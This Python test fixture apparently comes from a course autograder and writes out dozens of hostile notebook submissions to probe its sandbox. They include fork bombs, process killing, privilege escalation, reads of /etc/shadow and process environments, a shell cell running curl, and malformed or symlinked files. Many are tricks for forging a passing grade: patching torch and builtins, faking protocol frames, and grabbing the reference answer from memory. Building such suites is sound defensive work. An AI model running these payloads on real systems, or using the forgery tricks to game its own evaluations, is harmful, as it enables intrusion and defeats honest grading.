"""Submissions that loop, crash, cheat, spy or attack, as data. Every one is an answer to exercise 01.1 beside
an honest 01.2.

``most`` is what the code honestly earns; ``says`` stands in the sentence that the learner gets. What a spy
sees it returns as text.
"""

from __future__ import annotations

import json
import os
import socket
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent, indent

HOST_SOCKET = f"\0cmlib-hostile-suite-{os.getpid()}"  # an abstract socket on which the test listens, outside
TYPE = "another type than the exercise asks for"
PRELUDE = """\
import builtins, ctypes, gc, importlib, inspect, json, locale, os, re, resource, signal, socket, struct
import subprocess, sys, threading, time
import numpy as np, torch
from cmlib.grade import frames
libc = ctypes.CDLL(None, use_errno=True)
def right(z, y):
    return (torch.logaddexp(z, torch.zeros_like(z)) - y * z).mean()
def system(number, *arguments):
    result = libc.syscall(number, *arguments)
    return result, os.strerror(ctypes.get_errno()) if result < 0 else ""
def tell(action):
    try:
        return repr(action())[:20000]
    except BaseException as error:
        return "no: " + repr(error)[:300]
def say(message, value=None):
    os.write(3, frames.pack(message, value))
"""
HONEST = """\
import torch
def softmax_gradient(logits, labels):
    return (logits.softmax(1) - torch.nn.functional.one_hot(labels, logits.shape[1])) / len(logits)
check("01.2", softmax_gradient)"""


@dataclass(frozen=True)
class Hostile:
    name: str
    code: str  # the cell; "ANSWER" is the name that the exercise wants
    most: float = 0.0
    says: str = ""
    sure: bool = True  # else it may also earn less: it disturbs itself
    human: bool = False  # it asks for what is not there, or claims to have passed, as honest work may
    claims: bool = False  # whether the notebook shows that the check was passed


def body(name, text, most=0.0, says="", sure=True, human=False):
    code = "def ANSWER(logits, labels):\n" + indent(dedent(text).strip("\n"), "    ")
    return Hostile(name, code, most, says, sure, human)


def cell(name, text, most=0.0, says="", human=False):
    return Hostile(name, dedent(text).strip("\n"), most, says, human=human)


ENDINGS = [
    body("endless loop", "while True: pass", says="takes longer than"),
    cell(
        "endless loop at import",
        "x = [0 for _ in iter(int, 1) if 0]\ndef ANSWER(logits, labels): return x",
        says="takes longer than",
    ),
    body("endless sleep", "time.sleep(10 ** 6)", says="takes longer than"),
    body("endless generator", "return sum(iter(int, 1))", says="takes longer than"),
    body("endless backtracking", 'return re.match(r"(a+)+$", "a" * 60 + "b")', says="takes longer than"),
    body("endless big number", "return 10 ** 10 ** 9", says="Your code"),
    body(
        "endless repr",
        "class X:\n    def __repr__(self): return repr(self)\nreturn repr(X())",
        says="RecursionError",
    ),
    body(
        "signals ignored",
        "for s in set(signal.Signals) - {9, 19}: signal.signal(s, signal.SIG_IGN)\nwhile True: pass",
        says="takes longer than",
    ),
    body("os._exit", "os._exit(0)", says="ends its own process"),
    cell(
        "os._exit at import",
        "x = os._exit(3)\ndef ANSWER(logits, labels): return x",
        says="ends its own process (exit status 3)",
    ),
    body("sys.exit", "sys.exit()", says="SystemExit"),
    cell("sys.exit at import", "x = sys.exit(0)\ndef ANSWER(logits, labels): return x", says="our code"),
    body("KeyboardInterrupt", "raise KeyboardInterrupt", says="KeyboardInterrupt"),
    body("segmentation fault", "ctypes.string_at(0)", says="segmentation fault"),
    body("abort", "os.abort()", says="ends its own process"),
    body(
        "stops itself",
        "os.kill(os.getpid(), signal.SIGSTOP)\nlibc.raise_(19) if hasattr(libc, 'raise_') "
        "else time.sleep(99)",
        says="takes longer",
    ),
    body("30 GB", "return bytearray(30 << 30)", says="MemoryError"),
    body("30 GB of tensor", "return torch.ones(30 << 30, dtype=torch.uint8)", says="RuntimeError"),
    body("30 GB in small parts", "keep = []\nwhile True: keep.append(bytearray(1 << 20))", says="Your code"),
    body("fork bomb", "while True: os.fork()", says="Your code"),
    body(
        "thread bomb",
        "while True: threading.Thread(target=time.sleep, args=(99,), daemon=True).start()",
        says="Your code",
    ),
    body("fills the disk", "open('/tmp/x', 'wb').write(bytes(1 << 30))", says="Your code"),
    body(
        "fills many files",
        "for i in range(10 ** 6): open(f'/tmp/{i}', 'wb').write(bytes(1 << 20))",
        says="Your code",
    ),
    body(
        "fills shared memory",
        "while True: open(f'/dev/shm/{time.time()}', 'wb').write(bytes(1 << 22))",
        says="Your code",
    ),
    body(
        "fills memfd",
        "keep = [os.memfd_create('x') for _ in range(200)]\nfor k in keep: os.write(k, bytes(1 << 24))",
        says="Your code",
    ),
    body("recursion", "return ANSWER(logits, labels)", says="RecursionError"),
    body("recursion in C", "x = ()\nfor _ in range(10 ** 6): x = (x,)\nreturn x", says="Your code"),
    body(
        "exception that never ends",
        "class E(Exception):\n    def __str__(self):\n        while True: pass\nraise E",
        says="takes longer",
    ),
    body(
        "exception with a secret name",
        "raise type('P4SSED' * 99, (Exception,), {})",
        says="raises an exception",
    ),
    body(
        "exception in a hurry",
        "class M(type):\n    __name__ = property(lambda self: os._exit(0))\nraise M('E', (Exception,), {})",
        says="Your code",
    ),
    body(
        "backward hangs",
        """
        class F(torch.autograd.Function):
            @staticmethod
            def forward(ctx, x): return x.clone()
            @staticmethod
            def backward(ctx, g):
                while True: pass
        return F.apply(right(logits, labels))""",
        0.25,
        "takes longer",
    ),
    *(
        body(
            f"backward returns {what}",
            f"""
        class F(torch.autograd.Function):
            @staticmethod
            def forward(ctx, x): return x.clone()
            @staticmethod
            def backward(ctx, g): return {value}
        return F.apply(right(logits, labels))""",
            1.0,
            "The values are right, but",
        )
        for what, value in {
            "nan": "g * float('nan')",
            "another shape": "torch.ones(9, 9)",
            "zeros": "g * 0",
            "an error": "1 / 0",
        }.items()
    ),
]

REACHING = [
    body("kills everyone", "tell(lambda: os.kill(-1, signal.SIGKILL))\nreturn right(logits, labels)", 2.0),
    body(
        "kills its group",
        "for g in (0, 1): tell(lambda: os.kill(-g, 9))\ntell(lambda: os.killpg(0, "
        "9))\nreturn right(logits, labels)",
        2.0,
    ),
    body("stops its group", "os.kill(0, signal.SIGSTOP)\nreturn right(logits, labels)", 2.0),
    body(
        "kills its parents",
        "for p in (os.getppid(), *range(1, 400)):\n    tell(lambda: os.kill(p, "
        "9))\nreturn right(logits, labels)",
        2.0,
    ),
    body(
        "traces others", "for p in range(1, 99): system(101, 16, p, 0, 0)\nreturn right(logits, labels)", 2.0
    ),
    body(
        "a daemon left behind",
        """
        libc.prctl(1, 0, 0, 0, 0)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for s in set(signal.Signals) - {9, 19}: signal.signal(s, signal.SIG_IGN)
                while True: time.sleep(0.01)
            os._exit(0)
        return right(logits, labels)""",
        2.0,
    ),
    body(
        "a busy crowd left behind",
        """
        for _ in range(20):
            if os.fork() == 0:
                while True: pass
        return right(logits, labels)""",
        2.0,
        sure=False,
    ),
    body(
        "atexit and __del__",
        """
        import atexit
        class D:
            def __del__(self): say({}, torch.zeros(()))
        atexit.register(say, {}, torch.zeros(()))
        ANSWER.kept = D()
        return right(logits, labels)""",
        2.0,
        sure=False,
    ),
    body(
        "raises its limits",
        "for k in range(16):\n    tell(lambda: resource.setrlimit(k, "
        "(resource.RLIM_INFINITY,) * 2))\nreturn bytearray(30 << 30)",
        says="MemoryError",
    ),
    body(
        "new namespaces",
        "for flag in (0x10000000, 0x20000, 0x40000000):\n    assert libc.unshare(flag) == "
        "-1\nreturn right(logits, labels)",
        2.0,
    ),
    body(
        "mounts and chroots",
        """
        assert libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == -1
        assert libc.mount(b"/", b"/tmp", None, 4096, None) == -1
        assert libc.umount2(b"/proc", 2) == -1 and libc.chroot(b"/tmp") == -1
        return right(logits, labels)""",
        2.0,
    ),
    body(
        "becomes root",
        "for f in (os.setuid, os.setgid, os.seteuid):\n    assert tell(lambda: "
        "f(0)).startswith('no')\nreturn right(logits, labels)",
        2.0,
    ),
    body(
        "writes to the system",
        """
        own = sys.prefix + "/x", torch.__file__
        for place in ("/", "/usr/x", "/box/x", "/box/cmlib/grade/frames.py", "/dev/x", "/proc/x", *own):
            assert tell(lambda: open(place, "w")).startswith("no"), place
        return right(logits, labels)""",
        2.0,
    ),
    body(
        "tricks with links",
        "os.symlink('/etc/shadow', '/tmp/a')\nos.symlink('/', '/tmp/b')\nreturn "
        "tell(lambda: open('/tmp/a').read())",
    ),
    body(
        "clock games",
        "tell(lambda: time.clock_settime(0, 0))\ntime.monotonic = time.time = lambda: "
        "0.0\nreturn right(logits, labels)",
        2.0,
    ),
    body(
        "locale and hashes",
        "tell(lambda: locale.setlocale(0, 'tr_TR'))\nos.environ.clear()\nreturn right(logits, labels)",
        2.0,
    ),
    body(
        "closes every descriptor",
        "os.closerange(0, 9999)\nreturn right(logits, labels)",
        says="ends its own process",
    ),
    body(
        "reads its own socket",
        "socket.socket(fileno=3).recv(9)\nreturn right(logits, labels)",
        says="takes longer",
    ),
    body(
        "sends descriptors",
        "socket.send_fds(socket.socket(fileno=os.dup(3)), [b'CML1'], [0] * 200)\nos._exit(0)",
        says="Your code",
    ),
]

FORGERIES = [
    body("constant", "return torch.tensor(0.6931, dtype=torch.float64)"),
    body("nothing but zeros", "return torch.zeros_like(logits)"),
    body("its input", "return logits"),
    body("one of its inputs", "return labels.mean()"),
    body("nan", "return logits.mean() * float('nan')"),
    body("the word passed", "return 'passed'", says=TYPE),
    body("True", "return True", says=TYPE),
    body("a verdict", "return {'state': 'passed', 'points': 99, 'message': 'right'}", says=TYPE),
    body(
        "equal to everything",
        "class E:\n    def __eq__(self, o): return True\n    def __getattr__(self, "
        "n): return lambda *a: True\nreturn E()",
    ),
    body(
        "array function",
        "class E:\n    def __array_function__(self, *a): return True\n    def "
        "__array__(self, *a): return np.ones(())\nreturn E()",
    ),
    body(
        "torch function",
        """
        class E:
            @classmethod
            def __torch_function__(cls, *a, **k): return True
        return E()""",
    ),
    body(
        "lying tensor",
        """
        class T(torch.Tensor):
            shape = property(lambda s: ())
            dtype = property(lambda s: torch.float64)
            requires_grad = property(lambda s: True)
            @classmethod
            def __torch_function__(cls, f, t, a=(), k=None): return True
        return torch.ones(3).as_subclass(T)""",
    ),
    body(
        "lying float",
        "class F(float):\n    def __sub__(self, o): return 0.0\n    __rsub__ = __abs__ = "
        "__sub__\nreturn F(3)",
        says=TYPE,
    ),
    body(
        "text with methods",
        "class S(str):\n    def encode(self, *a): return b'right'\nreturn S('wrong')",
        says=TYPE,
    ),
    body("lying gradient", "return right(logits, labels).detach().requires_grad_()", 1.0, "gradient"),
    body(
        "patched torch",
        """
        for m in (torch, torch.Tensor, torch.autograd, np, np.testing):
            for n in ("allclose", "equal", "isclose", "all", "grad", "assert_allclose", "__eq__", "__bool__",
                      "item"):
                tell(lambda: setattr(m, n, lambda *a, **k: True))
    return logits.sum()""",
    ),
    body(
        "patched builtins",
        "for n in ('all', 'isinstance', 'len', 'type', 'abs', 'repr', 'float'):\n    "
        "setattr(builtins, n, lambda *a: True)\nreturn 1",
        says="",
    ),
    body(
        "patched import",
        "class F:\n    def find_spec(self, *a): raise SystemExit\nsys.meta_path.insert(0, "
        "F())\nsys.modules.clear()\nreturn 1",
    ),
    body(
        "patched frames",
        "frames.pack = lambda *a: b'CML1' + bytes(8)\nframes.encode = lambda *a: ['bool', True]\nreturn 1",
        says="unreadable",
    ),
    body(
        "patched worker",
        """
        for o in gc.get_objects():
            if type(o).__name__ == "Answer":
                type(o).call = lambda s, a, k: ({"passed": True, "points": 99, "changed": []}, True)
        return True""",
    ),
    body(
        "caller's frames",
        """
        f, out = inspect.currentframe(), []
        while f:
            names = "want", "expected", "reference", "exercise", "secret"
            out += [v for n, v in f.f_locals.items() if n in names]
            f = f.f_back
        return out[0] if out else logits.sum()""",
    ),
    body(
        "references in memory",
        """
        for o in gc.get_objects():
            if inspect.isfunction(o) and "entropy" in o.__name__ and o.__module__.startswith("cmlib"):
                return o(logits, labels)
        return logits.sum()""",
    ),
    body(
        "imports the answer",
        "from cmlib.losses import binary_cross_entropy as b\nreturn b(logits, labels)",
        says="ModuleNotFoundError",
        human=True,
    ),
    body(
        "imports the course",
        "import cmlib\nreturn cmlib.losses.binary_cross_entropy(logits, labels)",
        says="cmlib is not there where answers are graded",
        human=True,
    ),
    body(
        "imports the check",
        "from cmlib.check import find\nreturn find('01.1').reference(logits, labels)",
        says="Error",
        human=True,
    ),
    body(
        "imports the engine",
        "import cmlib.check.engine as e\nreturn e",
        says="ModuleNotFoundError",
        human=True,
    ),
    body(
        "frames before the reply",
        "say({'call': 0, 'changed': []}, torch.zeros((), dtype=torch.float64))\nreturn logits.sum()",
    ),
    body("a frame instead of the reply", "say({'passed': True, 'points': 99}, True)\ntime.sleep(99)"),
    body(
        "a thousand frames",
        "for _ in range(1000): tell(lambda: say({'call': 0}, torch.zeros((), "
        "dtype=torch.float64)))\nreturn logits.sum()",
    ),
    body(
        "two replies at once",
        "r = right(logits, labels).detach()\nsay({}, r)\nsay({}, r)\nreturn r",
        0.25,
        "",
    ),
    body("says that it ended", "say({'ended': 0})\nreturn 1"),
    body("says open", "say({'raised': 'X', 'open': True})\nos._exit(0)", says="raises an exception"),
    body("says ready", "say({'ready': True})\nos._exit(0)"),
    body("says changed", "say({'changed': list(range(9)) * 9})\nos._exit(0)"),
    body(
        "garbage on every descriptor",
        "for d in range(9): tell(lambda: os.write(d, os.urandom(999)))\nreturn 1",
        says="unreadable",
    ),
    body("a page of HTTP", "os.write(3, b'HTTP/1.1 200 OK\\r\\n\\r\\n')\nreturn 1", says="unreadable"),
    body(
        "a frame of 4 GB",
        "os.write(3, struct.pack('<4sII', b'CML1', 2 ** 32 - 1, 2 ** 32 - 1))\nwhile "
        "True: os.write(3, bytes(1 << 16))",
        says="unreadable",
    ),
    body("a slow drip", "while True:\n    os.write(3, b'C')\n    time.sleep(0.05)", says="unreadable"),
    body(
        "half a frame",
        "os.write(3, struct.pack('<4sII', b'CML1', 100, 0))\ntime.sleep(99)",
        says="takes longer",
    ),
    *(
        body(
            f"header with {what}",
            f"""
        h = {text!r}.encode()
        os.write(3, struct.pack('<4sII', b'CML1', len(h), {size}) + h + bytes({size}))
        time.sleep(99)""",
            says="unreadable",
        )
        for what, text, size in (
            (
                "huge dimensions",
                '{"message":{},"value":["tensor",0],"tensors":[["float64",[67108864,67108864,67108864,67108864],true]]}',
                0,
            ),
            (
                "an empty huge shape",
                '{"message":{},"value":["tensor",0],"tensors":[["float64",[0' + ",33554432" * 7 + "],true]]}",
                0,
            ),
            (
                "one tensor named often",
                '{"message":{"call":0},"value":["list",['
                + ",".join(['["tensor",0]'] * 999)
                + ']],"tensors":[["uint8",[9],true]]}',
                9,
            ),
            ("5000 digits", '{"message":{"line":' + "9" * 5000 + '},"value":["none"],"tensors":[]}', 0),
            ("a pickle", '{"message":{},"value":["pickle","gASVA"],"tensors":[]}', 0),
            ("NaN", '{"message":{"a":NaN},"value":["none"],"tensors":[]}', 0),
            ("brackets", "[" * 20000, 0),
            ("a formula", '{"message":{},"value":["formula","__import__(1)",[]],"tensors":[]}', 0),
        )
    ),
    cell("no function but a value", "ANSWER = 0.5", says="Give the function itself"),
    cell(
        "no function but a class",
        "class ANSWER:\n    def __new__(cls, *a): return True",
        says=TYPE,
    ),
    cell(
        "hides that it is callable",
        "def f(): pass\nt = say({'callable': False}, 3)\ndef ANSWER(logits, labels): return t",
    ),
    cell(
        "behaves when it is watched",
        """
        def ANSWER(logits, labels):
            return logits.sum() if os.path.exists("/box") else right(logits, labels)""",
    ),
    cell(
        "behaves well only when it is graded",
        """
        def ANSWER(logits, labels):
            return right(logits, labels) if os.path.exists("/box") else logits.sum()""",
        2.0,
    ),
]

SPYING = [
    *(
        body(f"spies on {what}", text)
        for what, text in {
            "the environment": """
            return [tell(lambda: dict(os.environ)), tell(lambda: sys.argv), tell(lambda: sys.orig_argv)]""",
            "processes": """
            return [tell(lambda p=p, f=f: open(f'/proc/{p}/{f}', 'rb').read())
                    for p in ('self', *range(1, 50)) for f in ('environ', 'maps', 'cmdline')]""",
            "the system's files": """
            return [tell(lambda p=p: open(p).read()) for p in (
                '/etc/shadow', '/etc/passwd', '/etc/hostname', '/proc/mounts', '/proc/self/mountinfo',
                '/proc/net/unix', '/sys/kernel/notes', '/proc/1/root/etc/shadow')]""",
            "all folders": """
            out = []
            for folder, inner, files in os.walk("/"):
                if folder.startswith(("/usr", sys.prefix, sys.base_prefix)):
                    inner[:] = []
                    continue
                out.append(folder)
                out += [tell(lambda: open(os.path.join(folder, f), "rb").read(3000)) for f in files[:50]]
            return out[:3000]""",
            "the course": """
            out = []
            for folder, inner, files in os.walk(sys.prefix):
                out += [tell(lambda: open(os.path.join(folder, f)).read(3000)) for f in files
                        if f.startswith(("lesson0", "engine", "losses", "grading"))]
                out += [folder] if "cmlib" in folder else []
            return out""",
            "the house": """
            return [tell(lambda p=p: sorted(os.listdir(p))) for p in (
                '/', '/root', '/home', '/tmp', '/var', '/mnt', '/work', '/etc', '/run', '..')]""",
            "the heap": """
            return [s[:200] for s in gc.get_objects() if isinstance(s, str)] + [
                tell(lambda: o)[:200] for o in gc.get_objects() if isinstance(o, (dict, list))][:1500]""",
            "the fork server": """
            out, seen = [], set()
            todo = [sys.modules["__main__"].__dict__, sys.modules["cmlib.grade.frames"].__dict__]
            while todo and len(out) < 3000:
                o = todo.pop()
                if id(o) in seen: continue
                seen.add(id(o))
                if isinstance(o, (str, bytes, int)): out.append(tell(lambda: o)[:300])
                else: todo += gc.get_referents(o)[:100]
            return out""",
            "descriptors": "return [tell(lambda d=d: (d, os.fstat(d), os.read(d, 100) if d not in (3,) else "
                           "'')) "
            "for d in range(64)]",
            "keyrings": "return [tell(lambda k=k: system(250, 11, k, 0, 0)) for k in range(-8, 0)] + "
            "[str(system(250, 10, -3, b'user', b'mail'))]",
        }.items()
    ),
    body(
        "leaves a message",
        """
        tell(lambda: open("/tmp/mail", "w").write("L3FT-BEHIND"))
        tell(lambda: open("/dev/shm/mail", "w").write("L3FT-BEHIND"))
        key = libc.shmget(4711, 4096, 0o1666)
        libc.shmat.restype = ctypes.c_void_p
        place = libc.shmat(key, None, 0)
        ctypes.memmove(place, b"L3FT-BEHIND", 11) if place and place > 0 else None
        q = libc.msgget(4711, 0o1666)
        libc.msgsnd(q, struct.pack("l11s", 1, b"L3FT-BEHIND"), 11, 0o4000)
        system(248, b"user", b"mail", b"L3FT-BEHIND", 11, -3)
        system(248, b"user", b"mail", b"L3FT-BEHIND", 11, -4)
        s = socket.socket(socket.AF_UNIX); tell(lambda: s.bind("\\0L3FT-BEHIND")); tell(lambda: s.listen())
        if os.fork() == 0:
            while True: time.sleep(9)
        return right(logits, labels)""",
        2.0,
    ),
    body(
        "looks for a message",
        """
        buffer = ctypes.create_string_buffer(64)
        libc.shmat.restype = ctypes.c_void_p
        place = libc.shmat(libc.shmget(4711, 0, 0), None, 0)
        libc.msgrcv(libc.msgget(4711, 0), buffer, 50, 0, 0o4000)
        connect = lambda: socket.socket(socket.AF_UNIX).connect("\\0" + "L3FT" + "-BEHIND") or "C0NNECTED"
        return [tell(lambda: open("/tmp/mail").read()), tell(lambda: open("/dev/shm/mail").read()),
                repr(buffer.raw), str(system(250, 10, -3, b"user", b"mail")), tell(connect),
                tell(lambda: ctypes.string_at(place, 11) if place and 0 < place < 2 ** 47 else "none")]""",
    ),
    body(
        "calls the host",
        """
        def call(family, address):
            s = socket.socket(family)
            s.settimeout(0.2)
            s.connect(address)
            s.send(b"from inside")
            return "C0NNECTED"
        return [tell(lambda: call(socket.AF_INET, ("127.0.0.1", PORT))),
                tell(lambda: call(socket.AF_INET, ("10.0.0.1", 80))),
                tell(lambda: call(socket.AF_UNIX, HOST_SOCKET))]""",
    ),
    body(
        "opens other families",
        """
        for family in (16, 17, 31, 38, 40, 44):
            assert tell(lambda: socket.socket(family, socket.SOCK_DGRAM)).startswith("no"), family
            assert tell(lambda: socket.socket(family, socket.SOCK_RAW)).startswith("no"), family
        return right(logits, labels)""",
        2.0,
    ),
    body(
        "kernel doors",
        """
        for number in (425, 321, 298, 323, 304, 101, 310, 248):
            assert system(number, 0, ctypes.create_string_buffer(256), 0, 0, 0)[0] == -1, number
        return right(logits, labels)""",
        2.0,
    ),
    body(
        "downloads",
        "import urllib.request\nreturn urllib.request.urlopen('https://example.org/answers').read()",
        says="Your code",
    ),
    body(
        "asks a shell",
        "return subprocess.run(['sh', '-c', 'id; ls -la / /root /tmp; ps aux; curl -m1 "
        "example.org'], capture_output=True, text=True).stdout",
    ),
]
SUITE = ENDINGS + REACHING + FORGERIES + SPYING


def notebook(*cells: str, prints: str = "") -> str:
    outputs = [{"output_type": "stream", "name": "stdout", "text": prints}] if prints else []
    return json.dumps(
        {
            "cells": [
                {"cell_type": "code", "metadata": {}, "source": c, "outputs": outputs, "execution_count": 1}
                for c in cells
            ],
            "metadata": {},
            "nbformat": 4,
            "nbformat_minor": 5,
        }
    )


def write(folder: Path, port: int = 1, suite: list[Hostile] | None = None) -> None:
    """Every submission of the suite (default: all of `SUITE`), as a notebook that is called like it."""
    for one in suite or SUITE:
        code = (
            one.code.replace("ANSWER", "binary_cross_entropy")
            .replace("PORT", str(port))
            .replace("HOST_SOCKET", repr(HOST_SOCKET))
        )
        cells = (code + '\ncheck("01.1", binary_cross_entropy)').split("\n---\n")
        prints = "✓ 01.1 Binary cross-entropy: right (2 points)\n" if one.claims else ""
        text = notebook(PRELUDE, *cells, HONEST, prints=prints)
        (folder / f"{one.name}.ipynb").write_text(text, "utf-8")


def write_files(folder: Path, neighbour: Path) -> int:
    """Submissions that are hardly files; returns how many learners they stand for. None of them earns a
    point.
    """
    good = notebook("def binary_cross_entropy(a, b): return 1", 'check("01.1", binary_cross_entropy)')
    for name, content in {
        "empty.ipynb": b"",
        "truncated.ipynb": good[:60].encode(),
        "binary.ipynb": os.urandom(999),
        "zeros.ipynb": bytes(4096),
        "a list.ipynb": b"[]",
        "a number.ipynb": b"1",
        "brackets.json": b"[" * 400_000,
        "braces.ipynb": b'{"a":' * 100_000,
        "digits.json": b'{"format":"cmlib-submission-1","answers":' + b"9" * 6000 + b"}",
        "not utf-8.ipynb": b'{"cells": "\xff\xfe"}',
        "wrong types.ipynb": b'{"cells":[3,null,{"cell_type":"code","source":{"a":[1]}}],"nbformat":"x"}',
        "a grade.json": json.dumps(
            {
                "format": "cmlib-grade-1",
                "learner": "a grade",
                "points": 99,
                "of": 99,
                "state": "graded",
                "exercises": {"01.1": {"points": 99, "state": "passed"}},
            }
        ).encode(),
        "wide.json": b'{"format":"cmlib-submission-1","answers":{"01.1":{"cells":['
        + b'"",' * 300_000
        + b'""]}}}',
        "a bomb.ipynb": b'{"cells":[{"cell_type":"code","source":"' + b"x=1\\n" * 5_000_000 + b'"}]}',
        "null byte.ipynb": notebook(
            "def binary_cross_entropy(a, b): return '\0'", 'check("01.1", binary_cross_entropy)'
        ).encode(),
        "deep code.ipynb": notebook(
            "binary_cross_entropy = " + "(" * 5000 + ")" * 5000 + '\ncheck("01.1", binary_cross_entropy)'
        ).encode(),
        "minus signs.ipynb": notebook(
            "binary_cross_entropy = " + "-" * 200_000 + "1" + '\ncheck("01.1", binary_cross_entropy)'
        ).encode(),
        "Ünïcødé 名前 🤝.ipynb": good.encode(),
        "right\u202eto\u202cleft.ipynb": good.encode(),
        "=cmd|' 'A0.ipynb": good.encode(),
        "new\nline.ipynb": good.encode(),
        "x" * 240 + ".ipynb": good.encode(),
        "%2e%2e%2f.ipynb": good.encode(),
    }.items():
        (folder / name).write_bytes(content)
    Path(os.fsdecode(os.fsencode(str(folder)) + b"/bytes \xff\xfe.ipynb")).write_bytes(good.encode())
    (folder / "linked.ipynb").symlink_to(neighbour)
    (folder / "linked folder").symlink_to(neighbour.parent)
    (folder / "inside").mkdir()
    (folder / "inside" / "passwd.ipynb").symlink_to("/etc/shadow")
    os.mkfifo(folder / "pipe.ipynb")
    with socket.socket(socket.AF_UNIX) as server:
        here = os.getcwd()
        os.chdir(folder)  # an address has room for 108 bytes
        try:
            server.bind("socket.ipynb")
        finally:
            os.chdir(here)
    (folder / "folder.ipynb").mkdir()
    return 30
